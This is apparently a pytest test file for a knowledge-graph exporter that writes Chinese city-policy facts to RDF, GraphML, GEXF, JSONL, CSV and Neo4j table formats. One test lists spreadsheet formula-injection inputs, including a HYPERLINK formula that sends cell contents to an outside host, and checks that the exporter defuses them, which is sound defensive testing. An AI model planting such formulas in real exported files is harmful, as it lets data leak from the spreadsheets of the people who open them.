"""graph.exports: one file for each suffix, the same bytes for the same graph."""

from __future__ import annotations

import csv
import json
from dataclasses import replace
from pathlib import Path
from typing import Any

import networkx as nx
import pyoxigraph as ox
import pytest
from fact_cases import GUANGZHOU, SHENZHEN, guangzhou, shenzhen

from extractors.model import Qualifier, Reading
from graph.exports import COLUMNS, FOLDERS, WRITERS, export
from graph.facts import Entity, Evidence, Fact, Figure, Period, digest
from graph.store import KnowledgeGraph
from graph.tablefiles import FILES
from graph.triples import from_quads
from ontologies.errors import ForeignFolder, NotFound, UnknownFormat


@pytest.fixture(scope="module")
def graph() -> KnowledgeGraph:
    graph = KnowledgeGraph()
    graph.add([guangzhou(), shenzhen()])
    return graph


def written(graph: KnowledgeGraph, folder: Path, suffix: str) -> Path:
    path = folder / f"graph{suffix}"
    export(graph, path)
    return path


def evidence_lines(path: Path) -> list[dict[str, Any]]:
    """The lines that `zhitu extract` would print; those of documents and the like stand behind them."""
    lines = [json.loads(line) for line in path.read_text(encoding="utf-8").splitlines()]
    rows = [line for line in lines if "relation" in line]
    assert lines[: len(rows)] == rows
    return rows


@pytest.mark.parametrize("suffix", WRITERS)
def test_the_same_graph_is_the_same_file(suffix: str, graph: KnowledgeGraph, tmp_path: Path) -> None:
    other = KnowledgeGraph()
    for reading in (shenzhen(), guangzhou(), shenzhen()):
        other.add(reading)
    first = written(graph, tmp_path, suffix).read_bytes()
    assert first
    assert written(other, tmp_path, suffix).read_bytes() == first


@pytest.mark.parametrize("suffix", [".nq", ".ttl", ".jsonld"])
def test_rdf_says_it_all(suffix: str, graph: KnowledgeGraph, tmp_path: Path) -> None:
    store = ox.Store()
    store.load(path=str(written(graph, tmp_path, suffix)))
    assert set(store) == set(graph.quads())


def test_nquads_are_sorted_lines(graph: KnowledgeGraph, tmp_path: Path) -> None:
    lines = written(graph, tmp_path, ".nq").read_bytes().splitlines()
    assert lines == sorted(lines)
    assert len(lines) == len(set(lines)) == len(graph.store)


def test_line_ends_in_a_text_do_not_part_its_line(tmp_path: Path) -> None:
    graph = KnowledgeGraph()
    graph.add(replace(GUANGZHOU, text="一\n二\r\n三\x85四\u2028五"))
    path = written(graph, tmp_path, ".nq")
    assert len(path.read_bytes().splitlines()) == len(graph.store)
    store = ox.Store()
    store.load(path=str(path))
    assert set(store) == set(graph.quads())


def test_trig_has_a_graph_for_each_document(graph: KnowledgeGraph, tmp_path: Path) -> None:
    store = ox.Store()
    store.load(path=str(written(graph, tmp_path, ".trig")))
    graphs = {name.value.rsplit("/", 1)[-1]: name for name in store.named_graphs()}
    assert set(graphs) == {GUANGZHOU.id, SHENZHEN.id}
    assert not list(store.quads_for_pattern(None, None, None, ox.DefaultGraph()))
    for reading in (guangzhou(), shenzhen()):
        alone = KnowledgeGraph()
        alone.add(reading)
        quads = list(store.quads_for_pattern(None, None, None, graphs[reading.document.id]))
        facts = list(from_quads(quads))
        assert facts == list(alone.facts())
        assert {quad.triple for quad in quads} >= {
            quad.triple for quad in alone.quads() if "altLabel" not in quad.predicate.value
        }


@pytest.mark.parametrize(("suffix", "reader"), [(".graphml", nx.read_graphml), (".gexf", nx.read_gexf)])
def test_network_files_can_be_read_again(suffix: str, reader, graph: KnowledgeGraph, tmp_path: Path) -> None:
    network = reader(written(graph, tmp_path, suffix))
    expected = graph.to_networkx()
    assert set(network.nodes) == set(expected.nodes)
    assert network.number_of_edges() == expected.number_of_edges()
    assert network.nodes["440100"]["label"] == "广州市"
    quotes = {one["quote"] for _, _, edge in network.edges(data=True) for one in json.loads(edge["evidence"])}
    assert "市政府自2013年推行首席质量官制度" in quotes


@pytest.mark.parametrize("suffix", [".graphml", ".gexf"])
def test_characters_that_xml_cannot_write_become_spaces(suffix: str, tmp_path: Path) -> None:
    graph = KnowledgeGraph()
    document = replace(GUANGZHOU, title="广州\x0b推行\x00")
    graph.add(Reading(document, (), guangzhou().statements))
    path = written(graph, tmp_path, suffix)
    nx.read_graphml(path) if suffix == ".graphml" else nx.read_gexf(path)


def test_rows_are_lines_of_extract(graph: KnowledgeGraph, tmp_path: Path) -> None:
    rows = evidence_lines(written(graph, tmp_path, ".jsonl"))
    needed = "document source subject subject_type subject_label relation object object_type object_label modality"
    needed += " negated time quantity start end quote extractor confidence"
    texts = {GUANGZHOU.id: GUANGZHOU.text, SHENZHEN.id: SHENZHEN.text}
    assert len(rows) == 8
    for row in rows:
        assert set(needed.split()) <= set(row)
        assert texts[row["document"]][row["start"] : row["end"]] == row["quote"]
        assert row["subject"] in texts[row["document"]]
    [first] = [row for row in rows if row["time"]]
    assert (first["subject"], first["subject_label"]) == ("市政府", "广州市人民政府")
    places = [(row["document"], row["start"]) for row in rows]
    assert places == sorted(places)


def test_a_spreadsheet_reads_the_chinese(graph: KnowledgeGraph, tmp_path: Path) -> None:
    path = written(graph, tmp_path, ".csv")
    assert path.read_bytes().startswith(b"\xef\xbb\xbf")
    with path.open(encoding="utf-8-sig", newline="") as file:
        rows = list(csv.DictReader(file))
    assert tuple(rows[0]) == COLUMNS
    assert {row["negated"] for row in rows} == {"false"}
    assert {row["quantity_value"] for row in rows} == {"", "98.5"}


def test_the_page_shows_the_labels(graph: KnowledgeGraph, tmp_path: Path) -> None:
    assert "首席质量官制度" in written(graph, tmp_path, ".html").read_text(encoding="utf-8")


def test_every_export_tells_conditions_and_exceptions(tmp_path: Path) -> None:
    text = GUANGZHOU.text
    condition = Qualifier("自2013年", 3, 9)
    exception = Qualifier("地方政府", text.index("地方政府"), text.index("地方政府") + 4)
    [first, *others] = guangzhou().statements
    graph = KnowledgeGraph()
    graph.add(Reading(GUANGZHOU, (), (first._replace(condition=condition, exception=exception), *others)))
    rows = evidence_lines(written(graph, tmp_path, ".jsonl"))
    assert [(row["condition"], row["exception"]) for row in rows if row["condition"]] == [("自2013年", "地方政府")]
    assert sum(row["condition"] is None for row in rows) == len(others)
    with written(graph, tmp_path, ".csv").open(encoding="utf-8-sig", newline="") as file:
        assert {(row["condition"], row["exception"]) for row in csv.DictReader(file)} == {
            ("自2013年", "地方政府"),
            ("", ""),
        }
    for suffix in (".graphml", ".gexf"):
        path = written(graph, tmp_path, suffix)
        network = nx.read_graphml(path) if suffix == ".graphml" else nx.read_gexf(path)
        assert [edge["exception"] for *_, edge in network.edges(data=True) if "condition" in edge] == ["地方政府"]


@pytest.mark.parametrize("name", ["graph.docx", "graph", "graph.NQX"])
def test_unknown_suffixes_are_answered_with_the_known(name: str, graph: KnowledgeGraph, tmp_path: Path) -> None:
    with pytest.raises(UnknownFormat, match=r"use one of: \.nq \.trig \.ttl"):
        export(graph, tmp_path / name)
    assert not list(tmp_path.iterdir())


def test_suffixes_may_be_capitals_and_folders_must_exist(graph: KnowledgeGraph, tmp_path: Path) -> None:
    assert written(graph, tmp_path, ".NQ").stat().st_size
    with pytest.raises(NotFound, match="no such folder"):
        export(graph, tmp_path / "none" / "graph.nq")


def test_an_empty_graph_can_be_written(tmp_path: Path) -> None:
    for suffix in WRITERS:
        written(KnowledgeGraph(), tmp_path, suffix)


@pytest.mark.parametrize("suffix", FOLDERS)
def test_tables_have_the_headers_that_programs_import(suffix: str, graph: KnowledgeGraph, tmp_path: Path) -> None:
    tables = {}
    for name in FILES[:3]:
        path = written(graph, tmp_path, suffix) / name
        with path.open(encoding="utf-8", newline="") as file:
            tables[name] = list(csv.DictReader(file))
    nodes, edges, documents = tables.values()
    if suffix == ".neo4j":
        assert {"id:ID(Entity)", ":LABEL", "aliases:string[]"} <= set(nodes[0])
        assert {":START_ID(Entity)", ":END_ID(Entity)", ":TYPE", "value:double", "valid_from:date"} <= set(edges[0])
        assert {row[":LABEL"] for row in documents} == {"Article"}
        [office] = [row for row in nodes if row["id:ID(Entity)"] == "440100-gov"]
        assert (office[":LABEL"], office["aliases:string[]"]) == ("Government", "市政府;广州市政府")
        ends = {row[end] for row in edges for end in (":START_ID(Entity)", ":END_ID(Entity)")}
        assert ends == {row["id:ID(Entity)"] for row in nodes}
        assert {row[":TYPE"] for row in edges} == {fact.relation for fact in graph.facts()}
    else:
        assert {"Id", "Label"} <= set(nodes[0])
        assert {"Source", "Target", "Type", "Id", "Label"} <= set(edges[0])
        assert {row["Type"] for row in edges} == {"Directed"}
        assert {row[end] for row in edges for end in ("Source", "Target")} == {row["Id"] for row in nodes}


@pytest.mark.parametrize("suffix", [".csv", *FOLDERS])
def test_no_cell_is_a_formula(suffix: str, tmp_path: Path) -> None:
    formula = '=HYPERLINK("http://a/?"&A1)'
    hostile = [formula, "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "＝1+1"]
    graph = KnowledgeGraph()
    for text in hostile:
        city, system = Entity(digest(text), text, "Place", (formula,)), Entity("5b0e", "制度", "System")
        passage = Evidence(digest(text), 0, 1, text, text, 0.5, text, text)
        figure = Figure(text, -1.5, text)
        graph.add(Fact(city, "adopts", system, time=Period(text), quantity=figure, evidence=(passage,), condition=text))
    path = written(graph, tmp_path, suffix)
    for file in [path] if path.is_file() else [path / name for name in FILES[:3]]:
        with file.open(encoding="utf-8-sig", newline="") as opened:
            cells = [cell for row in csv.reader(opened) for cell in row]
        assert not [cell for cell in cells if cell[:1] in set("=+@\t\r＝")]
        assert {cell for cell in cells if cell.startswith("-")} <= {"-1.5"}  # a number is no formula
        if file.name != FILES[2]:
            assert f"'{formula}" in cells


def test_a_folder_of_others_is_left_alone(graph: KnowledgeGraph, tmp_path: Path) -> None:
    (tmp_path / "graph.neo4j").mkdir()
    (tmp_path / "graph.neo4j" / "mine.csv").touch()
    with pytest.raises(ForeignFolder, match="holds files that zhitu export did not write"):
        written(graph, tmp_path, ".neo4j")
    assert [path.name for path in (tmp_path / "graph.neo4j").iterdir()] == ["mine.csv"]
    assert [path.name for path in tmp_path.iterdir()] == ["graph.neo4j"]
    (tmp_path / "graph.neo4j" / "mine.csv").rename(tmp_path / "graph.neo4j" / FILES[0])
    assert {path.name for path in written(graph, tmp_path, ".neo4j").iterdir()} == {*FILES}


def test_an_export_that_fails_leaves_the_file_that_was_there(
    graph: KnowledgeGraph, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    before = written(graph, tmp_path, ".graphml").read_bytes()
    monkeypatch.setattr(KnowledgeGraph, "documents", lambda self: 1 // 0)
    with pytest.raises(ZeroDivisionError):
        written(graph, tmp_path, ".graphml")
    assert (tmp_path / "graph.graphml").read_bytes() == before
    assert len(list(tmp_path.iterdir())) == 1
